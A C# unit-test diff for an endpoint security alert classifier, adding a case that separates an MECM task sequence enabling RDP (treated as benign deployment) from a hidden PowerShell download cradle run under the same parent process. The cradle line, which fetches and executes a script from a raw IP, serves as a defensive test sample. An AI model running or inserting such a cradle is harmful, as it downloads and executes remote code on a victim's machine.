@@ -31,13 +31,14 @@ public sealed class EndpointProvenanceTests
         },
     };
 
-    private static Dictionary<string, object> Elastic(string user, string commandLine, string parentExecutable, string parentCommandLine, string time = "2026-11-17T11:20:08Z") => new Dictionary<string, object>
+    private static Dictionary<string, object> Elastic(string user, string commandLine, string parentExecutable, string parentCommandLine, string time = "2026-11-17T11:20:08Z",
+        string executable = @"C:\Windows\System32\wevtutil.exe") => new Dictionary<string, object>
     {
         ["@timestamp"] = time, ["kibana.alert.rule.name"] = "Clearing Windows Event Logs", ["kibana.alert.severity"] = "medium",
         ["host"] = new { name = "GX-KIOSK-0088" }, ["user"] = new { name = user },
         ["process"] = new
         {
-            executable = @"C:\Windows\System32\wevtutil.exe", name = "wevtutil.exe", command_line = commandLine,
+            executable, name = Path.GetFileName(executable.Replace('\\', '/')), command_line = commandLine,
             parent = new { executable = parentExecutable, name = Path.GetFileName(parentExecutable.Replace('\\', '/')), command_line = parentCommandLine },
         },
     };
@@ -95,5 +96,19 @@ public sealed class EndpointProvenanceTests
         var known = Assess(S1("Malware", "malicious", @"\Device\HarddiskVolume3\Program Files\Nmap\nmap.exe", "-sS -p 22,443 10.20.0.0/22"));
         Assert.NotEqual(Classification.Benign, known.Classification);
         Assert.Contains(known.Evidence, e => e.Key == "product_rates_malicious" && e.Strong);
+    }
+
+    [Fact]
+    public void The_mecm_task_sequence_enabling_rdp_on_a_new_build_is_deployment_but_a_download_cradle_under_it_is_not_closed()
+    {
+        const string EnableRdp = @"reg add ""HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server"" /v fDenyTSConnections /t REG_DWORD /d 0 /f";
+        var build = Assess(Elastic("SYSTEM", EnableRdp, @"C:\_SMSTaskSequence\bin\TsManager.exe", "TsManager.exe", executable: @"C:\Windows\System32\reg.exe"));
+        Assert.Equal(Classification.Benign, build.Classification);
+        Assert.Contains(build.Evidence, e => e.Key == "deployment_tool");
+
+        // The task sequence explains packaging, not a cradle fetching a script from the internet.
+        var cradle = Assess(Elastic("SYSTEM", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.148.10.81/a.ps1')\"",
+            @"C:\_SMSTaskSequence\bin\TsManager.exe", "TsManager.exe", executable: @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
+        Assert.NotEqual(Classification.Benign, cradle.Classification);
     }
 }
